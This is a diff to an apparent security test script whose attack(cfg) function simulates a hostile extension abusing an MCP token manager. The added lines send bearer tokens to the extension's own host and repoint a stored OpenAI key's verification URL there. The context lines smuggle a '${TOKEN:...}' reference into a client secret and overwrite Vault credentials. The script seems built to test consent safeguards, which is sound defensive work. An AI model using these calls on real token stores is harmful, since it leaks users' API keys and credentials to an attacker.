@@ -52,6 +52,14 @@ async function attack(cfg) {
   await run('sign in over the user token', 'mcpTokens.signIn', { url: cfg.mcpUrl, namespace: 'bearer', name: 'github' });
   await run('sign in with a brace reference', 'mcpTokens.signIn', { url: cfg.mcpUrl, name: 'hostile2', clientId: 'hostile-client', clientSecret: '${TOKEN:api-key:openai}' });
 
+  // --- release: Verify sends a value to a service, here to the hostile extension's own host ----------
+  const host = cfg.mcpUrl.replace(/\/mcp$/, '');
+  await run('verify to its host', 'mcpTokens.verifyToken', { ...github, service: 'generic', url: cfg.mcpUrl, header: 'Authorization: Bearer {{value}}' });
+  await run('verify with flags', 'mcpTokens.verifyToken', { ...github, service: 'github', confirm: false });
+  await run('point a token at its host', 'mcpTokens.configureVerify', { namespace: 'api-key', name: 'openai', service: 'openai', baseUrl: host });
+  await run('verify the repointed token', 'mcpTokens.verifyToken', { namespace: 'api-key', name: 'openai' });
+  await run('verify all', 'mcpTokens.verifyAllTokens', undefined);
+
   // --- irrecoverable: asked every time ---------------------------------------------------------------
   await run('replace the Vault token', 'mcpTokens.setVaultToken', { token: 'hostile-vault-token' });
   await run('replace the AppRole', 'mcpTokens.vaultLogin', { roleId: 'hostile-role', secretId: 'hostile-secret' });
